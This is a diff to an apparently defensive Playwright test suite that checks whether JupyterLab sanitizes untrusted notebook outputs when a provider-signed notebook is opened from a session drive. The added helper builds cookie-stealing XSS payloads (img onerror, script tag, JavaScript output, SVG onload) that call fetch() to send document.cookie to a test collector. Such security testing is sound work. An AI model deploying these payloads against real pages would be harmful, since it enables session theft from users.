@@ -22,6 +22,7 @@ from pathlib import Path
 import pytest
 from stack import StackNode
 from test_output_attacks import hostile_cell
+from test_session_terminal import _insecure, access_token, http
 from test_ui_e2e import ARTIFACTS, CHROMIUM, CHROMIUM_ARGS, _missing, wait_for
 from ui_helpers import WalnutStack, http_json
 
@@ -81,7 +82,7 @@ def lab():
                 "metadata": {"kernelspec": {"name": session["kernel_name"], "language": "python",
                                             "display_name": "walnut"}}}
             (root / "notebooks" / "attack.ipynb").write_text(json.dumps(notebook))
-            yield stack, collector
+            yield stack, collector, node
     finally:
         collector.close()
         node.stop()
@@ -92,7 +93,7 @@ def lab():
 def test_hostile_outputs_do_not_run_in_jupyterlab(lab) -> None:
     from playwright.sync_api import sync_playwright
 
-    stack, collector = lab
+    stack, collector, _node = lab
     ARTIFACTS.mkdir(parents=True, exist_ok=True)
     with sync_playwright() as p:
         browser = p.chromium.launch(executable_path=str(CHROMIUM), args=CHROMIUM_ARGS)
@@ -135,6 +136,79 @@ def test_hostile_outputs_do_not_run_in_jupyterlab(lab) -> None:
             assert (pwned, dialogs, written, stolen) == (None, [], False, [])
         except BaseException:
             page.screenshot(path=str(ARTIFACTS / "attacks-failure.png"))
+            raise
+        finally:
+            context.close()
+            browser.close()
+
+
+def signed_by_the_provider(collector_url: str, kernel_name: str) -> dict:
+    """A notebook whose cells say trusted (the gateway's own notary signs it on save) and
+    whose stored outputs run script wherever JupyterLab trusts them."""
+    attack = f"window.__walnut_pwned = 1; fetch('{collector_url}/steal?c=' + document.cookie)"
+    outputs = [
+        {"output_type": "display_data", "metadata": {}, "data": {
+            "text/html": f'<b class="benign">benign html</b><img src="x" onerror="{attack}">'
+                         f"<script>{attack}</script>"}},
+        {"output_type": "display_data", "metadata": {}, "data": {
+            "application/javascript": attack, "text/plain": "js"}},
+        {"output_type": "display_data", "metadata": {}, "data": {
+            "image/svg+xml": f'<svg xmlns="http://www.w3.org/2000/svg" onload="{attack}">'
+                             "<text>svg</text></svg>"}}]
+    return {"nbformat": 4, "nbformat_minor": 5, "cells": [{
+        "cell_type": "code", "id": "planted", "metadata": {"trusted": True},
+        "execution_count": 1, "source": "1", "outputs": outputs}],
+        "metadata": {"kernelspec": {"name": kernel_name, "language": "python",
+                                    "display_name": "walnut"}}}
+
+
+def test_a_provider_signed_notebook_in_the_session_drive_does_not_run(lab) -> None:
+    """Opened from the session's drive, a notebook the provider signed is untrusted in
+    JupyterLab: its stored HTML is sanitized, its JavaScript is not run."""
+    from playwright.sync_api import sync_playwright
+
+    stack, collector, node = lab
+    s = next(x for x in stack.api("sessions")["sessions"] if x["status"] == "running")
+    sid = s["id"]
+    http_json(f"{stack.base_url}walnut/sessions/{sid}/api/contents/evil.ipynb", "PUT",
+              {"type": "notebook", "format": "json",
+               "content": signed_by_the_provider(collector.url, s["kernel_name"])},
+              token=stack.token)
+    # the attack is live: the session's gateway itself calls the notebook trusted
+    status, body = http(f"{node.url}/api/v1/sessions/{sid}/gateway/api/contents/evil.ipynb",
+                        headers={"Authorization": f"token {access_token(stack, sid)}"},
+                        context=_insecure())
+    assert status == 200, body
+    assert [c["metadata"].get("trusted") for c in json.loads(body)["content"]["cells"]] == [True]
+    ARTIFACTS.mkdir(parents=True, exist_ok=True)
+    with sync_playwright() as p:
+        browser = p.chromium.launch(executable_path=str(CHROMIUM), args=CHROMIUM_ARGS)
+        context = browser.new_context(viewport={"width": 1440, "height": 1000})
+        page = context.new_page()
+        page.set_default_timeout(60_000)
+        dialogs: list[str] = []
+        page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
+        try:
+            page.goto(stack.lab_url)
+            page.locator("#jupyterlab-splash").wait_for(state="detached", timeout=60_000)
+            page.locator('.lm-TabBar-tab[data-id="jupyter-walnut-panel"]').first.click()
+            card = page.locator(f'article.jp-Walnut-session[data-session="{sid}"]')
+            card.get_by_role("button", name="Files").click()
+            files = page.locator(f'.jp-Walnut-files[data-session="{sid}"]')
+            files.locator(".jp-DirListing-item", has_text="evil.ipynb").dblclick()
+            nb = page.locator(".jp-NotebookPanel").last
+            nb.locator(".benign", has_text="benign html").wait_for()
+            outputs = nb.locator(".jp-OutputArea-output")
+            wait_for(lambda: outputs.evaluate_all(
+                "els => els.every(e => [...e.querySelectorAll('img')].every(i => i.complete))"),
+                30, "the output images to settle")
+            page.screenshot(path=str(ARTIFACTS / "attacks-drive-notebook.png"))
+            pwned = page.evaluate("() => window.__walnut_pwned")
+            stolen = [r for r in collector.requests if "steal" in r]
+            assert (pwned, dialogs, stolen) == (None, [], [])
+            assert nb.locator("script").count() == 0
+        except BaseException:
+            page.screenshot(path=str(ARTIFACTS / "attacks-drive-failure.png"))
             raise
         finally:
             context.close()
